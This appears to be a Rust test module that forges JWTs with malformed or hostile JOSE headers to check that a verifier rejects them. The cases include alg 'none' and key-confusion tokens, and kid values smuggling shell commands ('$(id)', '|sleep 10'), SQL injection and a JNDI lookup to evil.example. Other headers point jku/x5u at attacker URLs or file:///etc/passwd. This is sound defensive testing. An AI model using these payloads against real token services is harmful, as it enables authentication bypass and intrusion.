//! T1 to T8, T12, T29: the JOSE header.

use auth_testkit::Algorithm;
use serde_json::json;

use super::{Forge, Row, row, shown};

pub(super) fn rows(forge: &Forge<'_>) -> Vec<Row> {
    [
        algorithms(forge),
        extensions(forge),
        types(forge),
        key_ids(forge),
        foreign_keys(forge),
        duplicates(forge),
        not_objects(forge),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// T1 to T3.
fn algorithms(forge: &Forge<'_>) -> Vec<Row> {
    let mut rows = Vec::new();
    let names = [
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!("none "),
        json!(" none"),
        json!(""),
        json!(null),
        json!([]),
        json!(["RS256"]),
        json!({}),
        json!(true),
        json!(256),
        json!("HS256"),
        json!("HS384"),
        json!("HS512"),
        json!("RS1"),
        json!("RS384"),
        json!("RS512"),
        json!("PS256"),
        json!("PS384"),
        json!("PS512"),
        json!("ES256"),
        json!("ES384"),
        json!("ES512"),
        json!("ES256K"),
        json!("EdDSA"),
        json!("Ed25519"),
        json!("rs256"),
        json!("Rs256"),
        json!("RS256 "),
        json!(" RS256"),
        json!("RS256\u{0}"),
        json!("RS-256"),
        json!("RSA256"),
        json!("RSA-OAEP"),
        json!("dir"),
        json!("A128KW"),
    ];
    for name in names {
        let token = forge.token().header("alg", name.clone());
        let shown = shown(&name);
        rows.push(row(format!("alg {shown}"), token.sign(), "wrong_algorithm"));
        let unsigned = token.empty_signature();
        rows.push(row(
            format!("alg {shown}, unsigned"),
            unsigned.sign(),
            "wrong_algorithm",
        ));
    }
    rows.push(row(
        "no alg",
        forge.token().without_header("alg").sign(),
        "wrong_algorithm",
    ));
    rows.push(row(
        "alg none, no signature",
        forge.token().alg_none().sign(),
        "wrong_algorithm",
    ));
    rows.push(row(
        "HMAC with the public key",
        forge.token().hs256_with_public_key().sign(),
        "wrong_algorithm",
    ));
    for algorithm in [
        Algorithm::RS384,
        Algorithm::RS512,
        Algorithm::PS256,
        Algorithm::PS384,
        Algorithm::PS512,
    ] {
        let token = forge.token().wrong_algorithm(algorithm);
        rows.push(row(
            format!("rightly signed with {algorithm:?}"),
            token.sign(),
            "wrong_algorithm",
        ));
        let token = token.header("alg", "RS256");
        rows.push(row(
            format!("signed with {algorithm:?}, called RS256"),
            token.sign(),
            "bad_signature",
        ));
    }
    rows
}

/// T12.
fn extensions(forge: &Forge<'_>) -> Vec<Row> {
    let crits = [
        json!([]),
        json!(null),
        json!(["exp"]),
        json!(["b64"]),
        json!(["zz"]),
        json!(["zz", "zz"]),
        json!("exp"),
        json!({}),
        json!(7),
        json!([7]),
        json!([null]),
        json!(["http://example.invalid/UNDEFINED"]),
    ];
    let mut rows: Vec<_> = crits
        .into_iter()
        .map(|crit| {
            let token = forge.token().header("crit", crit.clone());
            row(
                format!("crit {}", shown(&crit)),
                token.sign(),
                "critical_header",
            )
        })
        .collect();
    for b64 in [json!(true), json!(false), json!(null), json!("false")] {
        let token = forge.token().header("b64", b64.clone());
        rows.push(row(
            format!("b64 {}", shown(&b64)),
            token.sign(),
            "critical_header",
        ));
    }
    rows
}

/// T29.
fn types(forge: &Forge<'_>) -> Vec<Row> {
    let others = [
        "",
        " ",
        "at+JWT ",
        "logout+jwt",
        "dpop+jwt",
        "id_token+jwt",
        "oauth-id-jag+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "kb+jwt",
        "JOSE",
        "JOSE+JSON",
        "application/",
        "application/jose",
        "text/jwt",
        "x/at+jwt",
        "at+jwt;v=1",
        "atjwt",
        "JWT2",
        "JWE",
    ];
    let mut rows: Vec<_> = others
        .into_iter()
        .map(|typ| {
            row(
                format!("typ {typ:?}"),
                forge.token().wrong_type(typ).sign(),
                "wrong_type",
            )
        })
        .collect();
    for typ in [
        json!(null),
        json!(7),
        json!(["JWT"]),
        json!({}),
        json!(true),
    ] {
        let token = forge.token().header("typ", typ.clone());
        rows.push(row(
            format!("typ {}", shown(&typ)),
            token.sign(),
            "wrong_type",
        ));
    }
    // Media types ignore case, and may leave their tree out.
    for typ in [
        "jwt",
        "JWT",
        "Jwt",
        "application/jwt",
        "at+jwt",
        "AT+JWT",
        "application/at+jwt",
    ] {
        let token = forge.token().header("typ", typ);
        rows.push(row(
            format!("typ {typ:?} is good"),
            token.sign(),
            "accepted",
        ));
    }
    rows
}

/// T6.
fn key_ids(forge: &Forge<'_>) -> Vec<Row> {
    let mut rows = Vec::new();
    let texts = [
        "",
        " ",
        "*",
        "%",
        "_default",
        "default",
        "0",
        "null",
        "../../dev/null",
        "/dev/null",
        "/invalid_path",
        "file:///dev/null",
        "https://evil.example/keys",
        "|sleep 10",
        "x' UNION SELECT '1';--",
        "'; DROP TABLE keys; --",
        "$(id)",
        "`id`",
        "\u{0}",
        "a\nb",
        "\u{1b}[31m",
        "\u{202e}",
        "\u{e9}",
        "${jndi:ldap://evil.example}",
    ];
    for kid in texts {
        let token = forge.token().header("kid", kid);
        rows.push(row(format!("kid {kid:?}"), token.sign(), "unknown_key"));
    }
    let kid = forge.header()["kid"].as_str().unwrap().to_owned();
    for (name, kid) in [
        ("in upper case", kid.to_uppercase()),
        ("with a space after it", format!("{kid} ")),
        ("with a space before it", format!(" {kid}")),
        ("cut off", kid[..kid.len() - 1].to_owned()),
        ("and more", format!("{kid}0")),
        ("of 257 bytes", "k".repeat(257)),
        ("of 4000 bytes", "k".repeat(4000)),
    ] {
        rows.push(row(
            format!("kid {name}"),
            forge.token().header("kid", kid).sign(),
            "unknown_key",
        ));
    }
    for kid in [
        json!(null),
        json!(7),
        json!(1e300),
        json!(true),
        json!([]),
        json!([kid]),
        json!({}),
    ] {
        let token = forge.token().header("kid", kid.clone());
        rows.push(row(
            format!("kid {}", shown(&kid)),
            token.sign(),
            "malformed_header",
        ));
    }
    rows
}

/// T4 and T5: the header brings a key along, or says where to get one.
fn foreign_keys(forge: &Forge<'_>) -> Vec<Row> {
    let attacker = forge.token().embedded_jwk();
    let mut rows = vec![row("jwk of the signer", attacker.sign(), "bad_signature")];
    for name in ["jku", "x5u"] {
        for value in [
            "https://evil.example/keys",
            "http://127.0.0.1:1/keys",
            "file:///etc/passwd",
        ] {
            let token = forge.token().wrong_key().header(name, value);
            rows.push(row(
                format!("{name} {value}"),
                token.sign(),
                "bad_signature",
            ));
            let token = forge.token().header(name, value);
            rows.push(row(
                format!("{name} {value} is not followed"),
                token.sign(),
                "accepted",
            ));
        }
    }
    for (name, value) in [
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AA")),
        ("x5t#S256", json!("AA")),
        ("jwk", json!({})),
        ("jwk", json!(null)),
        ("jwk", json!("x")),
        ("cty", json!("JWT")),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("p2c", json!(2_147_483_647)),
        ("epk", json!({})),
        ("iss", json!("https://evil.example")),
    ] {
        let token = forge.token().header(name, value.clone());
        rows.push(row(
            format!("{name} {} is not looked at", shown(&value)),
            token.sign(),
            "accepted",
        ));
        let token = forge.token().wrong_key().header(name, value.clone());
        rows.push(row(
            format!("{name} {} helps no other key", shown(&value)),
            token.sign(),
            "bad_signature",
        ));
    }
    rows
}

/// T20, of the header.
fn duplicates(forge: &Forge<'_>) -> Vec<Row> {
    let header = forge.header();
    let mut rows = Vec::new();
    for name in ["alg", "kid", "typ"] {
        for value in [header[name].clone(), json!("none"), json!(null)] {
            let token = forge.token().duplicate_header(name, value.clone());
            rows.push(row(
                format!("{name} twice, then {}", shown(&value)),
                token.sign(),
                "duplicate_member",
            ));
        }
    }
    let text = header.to_string();
    for (name, member) in [
        ("alg escaped", r#""\u0061lg":"none""#),
        ("kid escaped", r#""\u006bid":"x""#),
        ("an unknown member", r#""x":1,"x":2"#),
        ("inside a member", r#""x":{"y":1,"y":2}"#),
        ("inside an array", r#""x":[{"y":1,"y":2}]"#),
    ] {
        for (place, json) in [
            ("first", format!("{{{member},{}", &text[1..])),
            ("last", format!("{},{member}}}", &text[..text.len() - 1])),
        ] {
            let token = forge.token().raw_header(json);
            rows.push(row(
                format!("{name} twice, {place}"),
                token.sign(),
                "duplicate_member",
            ));
        }
    }
    rows
}

/// T19 and T21, of the header.
fn not_objects(forge: &Forge<'_>) -> Vec<Row> {
    let text = forge.header().to_string();
    let wrong: [(&str, Vec<u8>); 17] = [
        ("empty", Vec::new()),
        ("null", b"null".to_vec()),
        ("an array", format!("[{text}]").into_bytes()),
        ("a text", serde_json::to_vec(&text).unwrap()),
        ("a number", b"7".to_vec()),
        ("cut off", text[..text.len() - 1].into()),
        ("twice", format!("{text}{text}").into_bytes()),
        ("and a byte", format!("{text}x").into_bytes()),
        ("after a BOM", format!("\u{feff}{text}").into_bytes()),
        ("in single quotes", text.replace('"', "'").into_bytes()),
        (
            "with a comma too many",
            text.replace('}', ",}").into_bytes(),
        ),
        ("with a comment", format!("/**/{text}").into_bytes()),
        ("with a NUL", [text.as_bytes(), b"\0"].concat()),
        (
            "not UTF-8",
            text.replace("JWT", "\u{e9}")
                .into_bytes()
                .iter()
                .map(|b| if *b == 0xc3 { 0xff } else { *b })
                .collect(),
        ),
        (
            "a lone surrogate",
            text.replace('}', ",\"x\":\"\\ud800\"}").into_bytes(),
        ),
        (
            "nested deeply",
            ["[".repeat(2000), "]".repeat(2000)].concat().into_bytes(),
        ),
        (
            "a member nested deeply",
            format!(
                "{},\"x\":{}1{}}}",
                &text[..text.len() - 1],
                "[".repeat(900),
                "]".repeat(900)
            )
            .into_bytes(),
        ),
    ];
    let mut rows: Vec<_> = wrong
        .into_iter()
        .map(|(name, bytes)| {
            row(
                format!("header {name}"),
                forge.token().raw_header(bytes).sign(),
                "malformed_header",
            )
        })
        .collect();
    let spaced = serde_json::to_string_pretty(&forge.header()).unwrap();
    rows.push(row(
        "header with white space is JSON",
        forge.token().raw_header(spaced).sign(),
        "accepted",
    ));
    rows
}
